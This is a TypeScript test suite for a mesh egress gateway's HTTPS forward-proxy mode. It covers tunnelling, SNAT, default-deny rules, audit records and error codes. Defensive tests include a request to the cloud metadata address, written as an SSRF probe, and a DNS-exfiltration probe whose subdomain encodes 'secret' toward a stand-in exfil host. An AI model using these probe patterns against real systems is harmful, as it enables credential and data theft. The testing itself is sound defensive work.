import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { type RuntimeEvent, subscribeRuntimeEvents } from '../../src/core/runtime-event.ts';
import { startEchoServer } from '../../src/devtools/echo-server.ts';
import { curlViaGateway } from '../helpers/curl.ts';
import { type GatewayFixture, startGatewayFixture } from '../helpers/gateway-fixture.ts';
import type { TestGateway } from '../helpers/test-gateway.ts';
import type { TestPki, WrittenLeaf } from '../helpers/test-pki.ts';

describe('connect mode (HTTPS forward proxy)', () => {
  let pki: TestPki;
  let gw: TestGateway;
  let echoPort: number;
  let bookinfo: WrittenLeaf;
  let other: WrittenLeaf;

  let fixture: GatewayFixture;

  before(async () => {
    fixture = await startGatewayFixture(({ echoPort }) => ({
      listeners: [{ name: 'egress', listen: '127.0.0.1:0', mode: 'connect', snat: '127.0.0.2' }],
      resolver: { hosts: { 'api.example.com': '127.0.0.1', 'metadata.example.com': '169.254.169.254' } },
      rules: [
        {
          name: 'bookinfo-egress',
          from: { namespaces: ['bookinfo'] },
          to: { hosts: ['*.example.com'], cidrs: ['127.0.0.0/8'], ports: [echoPort] },
          action: 'allow',
        },
        {
          name: 'bookinfo-metadata',
          from: { namespaces: ['bookinfo'] },
          to: { hosts: ['metadata.example.com'] },
          action: 'allow',
        },
      ],
    }));
    ({ pki, gw, echoPort } = fixture);
    bookinfo = await pki.workload('bookinfo', 'productpage');
    other = await pki.workload('sm-apigw-a', 'default');
  });
  after(async () => {
    await fixture?.close();
  });

  it('tunnels CONNECT for an allowed identity and dials from the SNAT address', async () => {
    const result = await curlViaGateway(
      gw.port('egress'),
      bookinfo,
      pki.rootPath,
      `http://127.0.0.1:${echoPort}/tunnel`,
      ['-p'],
    );
    assert.equal(result.code, 0, result.stderr);
    const body = JSON.parse(result.stdout);
    assert.equal(body.peerAddress, '127.0.0.2');
    assert.equal(body.url, '/tunnel');
    const closed = await gw.waitForRecord(
      (r) => r.action === 'egress-closed' && r.http === undefined && r.identity?.namespace === 'bookinfo',
    );
    assert.equal(closed.snat?.ip, '127.0.0.2');
    assert.ok((closed.bytesToClient ?? 0) > 0);
    assert.ok((closed.bytesFromClient ?? 0) > 0);
  });

  it('forwards absolute-form http:// requests with undici from the SNAT address', async () => {
    const result = await curlViaGateway(
      gw.port('egress'),
      bookinfo,
      pki.rootPath,
      `http://api.example.com:${echoPort}/absolute?x=1`,
      ['-H', 'Proxy-Connection: keep-alive', '-H', 'X-Custom: kept'],
    );
    assert.equal(result.code, 0, result.stderr);
    const body = JSON.parse(result.stdout);
    assert.equal(body.peerAddress, '127.0.0.2');
    assert.equal(body.url, '/absolute?x=1');
    assert.equal(body.host, `api.example.com:${echoPort}`, 'the origin sees the requested host name, not the IP');
    assert.equal(body.headers['x-custom'], 'kept');
    assert.equal(body.headers['proxy-connection'], undefined, 'hop-by-hop headers are stripped');
  });

  it('forwards an absolute-form request body intact and counts it', async () => {
    const body = Buffer.alloc(200_000, 'x');
    const result = await curlViaGateway(
      gw.port('egress'),
      bookinfo,
      pki.rootPath,
      `http://api.example.com:${echoPort}/upload`,
      ['-X', 'POST', '--data-binary', '@-', '-H', 'content-type: application/octet-stream'],
      body,
    );
    assert.equal(result.code, 0, result.stderr);
    const echoed = JSON.parse(result.stdout);
    assert.equal(echoed.bodyBytes, body.length);
    assert.equal(echoed.bodySha256, createHash('sha256').update(body).digest('hex'));
    const closed = await gw.waitForRecord(
      (r) => r.action === 'egress-closed' && r.http?.url?.endsWith('/upload') === true,
    );
    assert.equal(closed.bytesFromClient, body.length);
  });

  it('keeps credentials in an absolute-form URL out of the audit record', async () => {
    const result = await curlViaGateway(
      gw.port('egress'),
      bookinfo,
      pki.rootPath,
      `http://alice:s3cret@api.example.com:${echoPort}/private`,
    );
    assert.equal(result.code, 0, result.stderr);
    const permitted = await gw.waitForRecord(
      (r) => r.action === 'egress-permitted' && r.http?.url?.endsWith('/private') === true,
    );
    assert.equal(permitted.http?.url, `http://api.example.com:${echoPort}/private`);
    assert.ok(!JSON.stringify(gw.records).includes('s3cret'));
  });

  it('matches a host glob: *.example.com allows api.example.com', async () => {
    const result = await curlViaGateway(
      gw.port('egress'),
      bookinfo,
      pki.rootPath,
      `http://api.example.com:${echoPort}/`,
      ['-p'],
    );
    assert.equal(result.code, 0, result.stderr);
  });

  it('refuses another namespace with 403 and a Proxy-Status header', async () => {
    const result = await curlViaGateway(gw.port('egress'), other, pki.rootPath, `http://127.0.0.1:${echoPort}/`, [
      '-p',
      '-v',
    ]);
    assert.notEqual(result.code, 0);
    assert.match(result.stderr, /< HTTP\/1\.1 403/);
    assert.match(result.stderr, /< Proxy-Status: mesh-egress-gateway; error=http_request_denied/);
    const record = await gw.waitForRecord(
      (r) => r.action === 'egress-rejected' && r.identity?.namespace === 'sm-apigw-a',
    );
    assert.equal(record.code, 'EGW_POLICY_DENIED');
    assert.equal(record.reason, 'no rule matched (default deny)');
  });

  it('refuses a port that no rule allows', async () => {
    const result = await curlViaGateway(gw.port('egress'), bookinfo, pki.rootPath, 'http://127.0.0.1:1/', ['-p', '-v']);
    assert.match(result.stderr, /< HTTP\/1\.1 403/);
  });

  it('refuses the cloud metadata address even when a host rule allows the name (SSRF guard)', async () => {
    const result = await curlViaGateway(
      gw.port('egress'),
      bookinfo,
      pki.rootPath,
      'http://metadata.example.com/latest/meta-data/',
      ['-v'],
    );
    assert.match(result.stderr, /< HTTP\/1\.1 403/);
    assert.match(result.stderr, /error=destination_ip_prohibited/);
    const record = await gw.waitForRecord((r) => r.code === 'EGW_POLICY_DESTINATION_PROHIBITED');
    assert.equal(record.destination?.ip, '169.254.169.254');
    assert.equal(record.rule?.name, 'bookinfo-metadata');
  });

  it('answers 502 with dns_error when an allowed host does not resolve', async () => {
    const result = await curlViaGateway(
      gw.port('egress'),
      bookinfo,
      pki.rootPath,
      `http://nonexistent.example.com:${echoPort}/`,
      ['-p', '-v'],
    );
    assert.match(result.stderr, /< HTTP\/1\.1 502/);
    assert.match(result.stderr, /error=dns_error/);
  });

  it('answers 403, not a DNS error, to a denied identity asking for an unresolvable host', async () => {
    const result = await curlViaGateway(
      gw.port('egress'),
      other,
      pki.rootPath,
      `http://nonexistent.example.com:${echoPort}/`,
      ['-p', '-v'],
    );
    assert.match(result.stderr, /< HTTP\/1\.1 403/);
  });

  it('never resolves a name for an identity that no rule could allow (issue 9 item 3: DNS exfiltration)', async () => {
    const lookups: Extract<RuntimeEvent, { type: 'dns-lookup' }>[] = [];
    const unsubscribe = subscribeRuntimeEvents((event) => {
      if (event.type === 'dns-lookup') lookups.push(event);
    });
    try {
      // Positive control: an identity the rules could allow makes the gateway look the name up.
      const allowed = await curlViaGateway(
        gw.port('egress'),
        bookinfo,
        pki.rootPath,
        `http://control-lookup.example.com:${echoPort}/`,
        ['-p', '-v'],
      );
      assert.match(allowed.stderr, /< HTTP\/1\.1 502/);
      assert.equal(lookups.filter((e) => e.outcome !== 'static').length, 1, 'the allowed name was looked up');
      const denied = await curlViaGateway(
        gw.port('egress'),
        other,
        pki.rootPath,
        `http://c2VjcmV0.exfil.example.com:${echoPort}/`,
        ['-p', '-v'],
      );
      assert.match(denied.stderr, /< HTTP\/1\.1 403/);
      const record = await gw.waitForRecord(
        (r) => r.action === 'egress-rejected' && r.destination?.domain === 'c2vjcmv0.exfil.example.com',
      );
      assert.equal(record.code, 'EGW_POLICY_DENIED');
      assert.equal(record.destination?.ip, undefined);
      assert.equal(lookups.filter((e) => e.outcome !== 'static').length, 1, 'no lookup for the denied identity');
    } finally {
      unsubscribe();
    }
  });

  it('answers 502 with connection_refused when the upstream port is closed', async () => {
    const closedServer = await startEchoServer('127.0.0.1', 0);
    const closedPort = (closedServer.address() as AddressInfo).port;
    await new Promise((r) => closedServer.close(r));
    const gw2 = await fixture.startGateway({
      listeners: [{ name: 'egress', listen: '127.0.0.1:0', mode: 'connect' }],
      rules: [{ name: 'all-loopback', to: { cidrs: ['127.0.0.0/8'] }, action: 'allow' }],
    });
    try {
      const result = await curlViaGateway(
        gw2.port('egress'),
        bookinfo,
        pki.rootPath,
        `http://127.0.0.1:${closedPort}/`,
        ['-p', '-v'],
      );
      assert.match(result.stderr, /< HTTP\/1\.1 502/);
      assert.match(result.stderr, /error=connection_refused/);
      const record = await gw2.waitForRecord((r) => r.code === 'EGW_UPSTREAM_REFUSED');
      assert.equal(record.action, 'egress-rejected');
    } finally {
      await gw2.close();
    }
  });

  it('answers 504 with connection_timeout when the upstream does not complete the TCP handshake', async () => {
    // A listening socket that never accepts, with its accept queue filled: the kernel then drops
    // further SYNs on loopback, so the gateway's dial hangs until timeouts.connect.
    const blackhole = spawn(
      'python3',
      [
        '-c',
        [
          'import socket, sys, time',
          's = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(0)',
          'port = s.getsockname()[1]',
          'fillers = []',
          'for _ in range(4):',
          '    c = socket.socket(); c.setblocking(False)',
          '    try: c.connect(("127.0.0.1", port))',
          '    except BlockingIOError: pass',
          '    fillers.append(c)',
          'print(port, flush=True)',
          'time.sleep(60)',
        ].join('\n'),
      ],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    );
    try {
      const port = Number(
        await new Promise<string>((resolve) => blackhole.stdout.once('data', (d) => resolve(String(d).trim()))),
      );
      const gw2 = await fixture.startGateway({
        listeners: [{ name: 'egress', listen: '127.0.0.1:0', mode: 'connect' }],
        rules: [{ name: 'all-loopback', to: { cidrs: ['127.0.0.0/8'] }, action: 'allow' }],
        timeouts: { connect: '500ms' },
      });
      try {
        const result = await curlViaGateway(gw2.port('egress'), bookinfo, pki.rootPath, `http://127.0.0.1:${port}/`, [
          '-p',
          '-v',
        ]);
        assert.match(result.stderr, /< HTTP\/1\.1 504/);
        assert.match(result.stderr, /error=connection_timeout/);
        const record = await gw2.waitForRecord((r) => r.code === 'EGW_UPSTREAM_TIMEOUT');
        assert.equal(record.action, 'egress-rejected');
      } finally {
        await gw2.close();
      }
    } finally {
      blackhole.kill('SIGKILL');
    }
  });

  it('rejects an origin-form request with 400 instead of proxying it', async () => {
    const result = await curlViaGateway(gw.port('egress'), bookinfo, pki.rootPath, `http://127.0.0.1:${echoPort}/`, [
      '--request-target',
      '/plain',
      '-v',
    ]);
    assert.match(result.stderr, /< HTTP\/1\.1 400/);
  });
});
